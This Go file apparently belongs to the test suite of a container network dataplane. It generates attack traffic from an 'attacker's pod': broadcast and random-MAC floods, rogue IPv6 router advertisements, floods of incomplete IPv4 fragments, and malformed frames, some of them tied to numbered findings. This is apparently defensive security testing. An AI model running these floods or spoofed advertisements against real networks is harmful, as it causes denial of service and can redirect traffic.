package main

import (
	"context"
	"encoding/binary"
	"errors"
	"math/rand/v2"
	"net"
	"net/netip"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"golang.org/x/sys/unix"

	"github.com/weftnet/weft/test/netns"
)

// packetSocket is a packet socket on a link of the attacker's pod.
type packetSocket struct {
	fd  int
	mac net.HardwareAddr
}

func openPacketSocket(t target, link string) (w packetSocket, err error) {
	err = netns.Do(t.Netns, func() error {
		i, err := net.InterfaceByName(link)
		if err != nil {
			return err
		}
		if w.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0); err != nil {
			return err
		}
		w.mac = i.HardwareAddr
		return errors.Join(unix.SetsockoptInt(w.fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1),
			unix.Bind(w.fd, &unix.SockaddrLinklayer{Ifindex: i.Index}))
	})
	return w, err
}

// flood sends the frames of next until ctx ends.
func flood(ctx context.Context, j job, link string, next func(w packetSocket) ([]byte, error)) error {
	w, err := openPacketSocket(j.target, link)
	if err != nil {
		return err
	}
	defer unix.Close(w.fd)
	for ctx.Err() == nil {
		frame, err := next(w)
		if err != nil {
			return err
		}
		if _, err := unix.Write(w.fd, frame); err == nil {
			j.underWay()
		}
	}
	return nil
}

func serialize(all ...gopacket.SerializableLayer) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, all...)
	return buf.Bytes(), err
}

var broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// broadcasts: finding 9.
func broadcasts(ctx context.Context, j job) error {
	return flood(ctx, j, "x0", func(w packetSocket) ([]byte, error) {
		return append(append(append([]byte{}, broadcastMAC...), w.mac...), make([]byte, 48)...), nil
	})
}

// randomMACs fills the dataplane's MAC tables and makes it flood.
func randomMACs(ctx context.Context, j job) error {
	random := rand.New(rand.NewPCG(5, 6))
	return flood(ctx, j, "x0", func(packetSocket) ([]byte, error) {
		frame := make([]byte, 60)
		randomise(frame[:12], random)
		frame[0] = 2
		frame[6] = 2
		return frame, nil
	})
}

// attackersLinkLocal is the source address of the advertisements.
var attackersLinkLocal = netip.MustParseAddr("fe80::bad")

// routerAdvertisements: finding 7.
func routerAdvertisements(ctx context.Context, j job) error {
	return flood(ctx, j, "x0", func(w packetSocket) ([]byte, error) {
		pause(ctx, 10_000_000)
		ip := &layers.IPv6{Version: 6, HopLimit: 255, NextHeader: layers.IPProtocolICMPv6,
			SrcIP: attackersLinkLocal.AsSlice(), DstIP: net.ParseIP("ff02::1")}
		icmp := &layers.ICMPv6{TypeCode: layers.CreateICMPv6TypeCode(layers.ICMPv6TypeRouterAdvertisement, 0)}
		if err := icmp.SetNetworkLayerForChecksum(ip); err != nil {
			return nil, err
		}
		prefix := make([]byte, 30)
		prefix[0] = 64
		prefix[1] = 0xc0 // flags: on-link, autonomous
		binary.BigEndian.PutUint32(prefix[2:], 3600)
		binary.BigEndian.PutUint32(prefix[6:], 3600)
		copy(prefix[14:], advertised.Addr().AsSlice())
		return serialize(&layers.Ethernet{
			SrcMAC:       w.mac,
			DstMAC:       net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1},
			EthernetType: layers.EthernetTypeIPv6,
		},
			ip, icmp, &layers.ICMPv6RouterAdvertisement{
				HopLimit:       64,
				RouterLifetime: 1800,
				Options: layers.ICMPv6Options{
					{Type: layers.ICMPv6OptSourceAddress, Data: w.mac}, {
						Type: layers.ICMPv6OptPrefixInfo,
						Data: prefix,
					},
				},
			})
	})
}

// toGateway returns the Ethernet layer of a packet to the gateway.
func (w packetSocket) toGateway() *layers.Ethernet {
	return &layers.Ethernet{SrcMAC: w.mac, DstMAC: broadcastMAC, EthernetType: layers.EthernetTypeIPv4}
}

// fragments sends fragments of packets that are never complete to a victim.
func fragments(ctx context.Context, j job) error {
	random := rand.New(rand.NewPCG(7, 8))
	return flood(ctx, j, "eth0", func(w packetSocket) ([]byte, error) {
		return serialize(w.toGateway(), &layers.IPv4{
			Version:    4,
			TTL:        64,
			Id:         uint16(random.Uint32()),
			Flags:      layers.IPv4MoreFragments,
			FragOffset: uint16(random.IntN(1000)),
			Protocol:   layers.IPProtocolUDP,
			SrcIP:      net.IPv4(10, 1, 0, byte(random.Uint32())),
			DstIP:      j.Neighbour.Addr().AsSlice(),
		}, gopacket.Payload(make([]byte, 64)))
	})
}

// unresolvedNeighbours sends to addresses that do not exist, from the pod's kernel.
func unresolvedNeighbours(ctx context.Context, j job) error {
	var socket *net.UDPConn
	err := netns.Do(j.Netns, func() (err error) {
		socket, err = net.ListenUDP("udp4", nil)
		return err
	})
	if err != nil {
		return err
	}
	defer socket.Close()
	random := rand.New(rand.NewPCG(9, 10))
	for ctx.Err() == nil {
		for _, subnet := range [][2]byte{{10, 1}, {10, 6}} {
			to := netip.AddrFrom4([4]byte{subnet[0], subnet[1], byte(random.Uint32()), byte(random.Uint32())})
			_, _ = socket.WriteToUDPAddrPort([]byte("x"), netip.AddrPortFrom(to, 9))
		}
		j.underWay()
	}
	return nil
}

// randomFrames sends random frames of several EtherTypes.
func randomFrames(ctx context.Context, j job) error {
	random := rand.New(rand.NewPCG(11, 12))
	types := []uint16{0x0800, 0x86dd, 0x0806, 0x8100, 0x88a8, 0x8847}
	return flood(ctx, j, "x0", func(w packetSocket) ([]byte, error) {
		frame := make([]byte, 14+random.IntN(1400))
		randomise(frame, random)
		copy(frame[6:], w.mac)
		binary.BigEndian.PutUint16(frame[12:], types[random.IntN(len(types))])
		if len(frame) > 14 && random.IntN(2) == 0 {
			frame[14] = []byte{0x45, 0x60}[random.IntN(2)]
		}
		return frame, nil
	})
}
